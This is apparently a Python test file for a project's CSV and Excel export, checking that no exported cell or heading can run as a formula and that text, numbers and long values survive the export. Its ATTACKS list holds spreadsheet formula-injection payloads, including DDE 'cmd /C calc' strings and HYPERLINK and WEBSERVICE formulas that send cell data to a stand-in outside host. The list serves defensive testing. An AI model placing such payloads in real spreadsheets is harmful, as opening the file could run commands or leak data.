"""Tables people take away: nothing in them runs when they are opened, and the words come back as they were."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from voice.tables import original
from voice.web.sheets import as_csv, as_xlsx, safe

ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example?"&A1,"Look")',
    '=WEBSERVICE("https://elsewhere.example")', "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1", "−1+1", '"=1+1', '","=1+1","', '";=1+1;"', "a\r\n=1+1", "%0A-2+3",
    "'=1+1", "DDE (\"cmd\";\"/C calc\";\"__DdeLink\")", "=IMPORTXML(A1)", "|calc", "\u2066=1+1", "🙂=1",
]  # fmt: skip
STARTERS = tuple("=+-@\t\r\n\x00＝＋－＠")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def read_xlsx(data: bytes) -> list[list[object]]:
    """Every cell; one that is a formula, a link or an error is a failure of its own."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula: {cell.value!r}"
            assert cell.hyperlink is None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_and_no_heading_is_a_formula(text: str) -> None:
    for table in (read_csv(as_csv([text, "Words"], [[text, 3]])), read_xlsx(as_xlsx([text, "Words"], [[text, 3]]))):
        for cell in (table[0][0], table[1][0]):
            shown = str(cell).lstrip(" \u200b\ufeff\u202e\u00a0\u2066")
            assert not shown.startswith(STARTERS), f"{cell!r} may run"


def test_numbers_stay_numbers_and_nothing_is_nothing() -> None:
    assert read_xlsx(as_xlsx(["n"], [[-3], [None]]))[1:] == [[-3], [""]]
    assert read_csv(as_csv(["n"], [[-3], [None]])) == [["n"], ["-3"], [""]]


@given(st.lists(st.lists(st.text(max_size=40), min_size=2, max_size=2), max_size=5))
def test_the_words_come_back(rows: list[list[str]]) -> None:
    """One line break for both kinds of it, and pictures for what no cell can hold; all else is as it was."""
    table = read_csv(as_csv(["a", "b"], rows))[1:]
    for row, cells in zip(rows, table, strict=True):
        for text, cell in zip(row, cells, strict=True):
            assert original(cell) == original(safe(text))
            if text.isprintable():
                assert original(cell) == text


def test_a_reader_of_rfc_4180_finds_every_cell() -> None:
    text = 'He said "stop", then\nleft; ok, fine'
    data = as_csv(["Words", "Week"], [[text, "2026-11-16"]])
    assert data.count(b"\r\n") == 2
    assert read_csv(data)[1] == [text, "2026-11-16"]


def test_a_very_long_text_is_whole_in_csv_and_cut_with_a_mark_in_xlsx() -> None:
    text = "a" * 1_000_000
    assert len(read_csv_wide(as_csv(["Words"], [[text]]))) == len(text)
    assert str(read_xlsx(as_xlsx(["Words"], [[text]]))[1][0]).endswith("[…]")


def read_csv_wide(data: bytes) -> str:
    before = csv.field_size_limit(2_000_000)
    try:
        return read_csv(data)[1][0]
    finally:
        csv.field_size_limit(before)
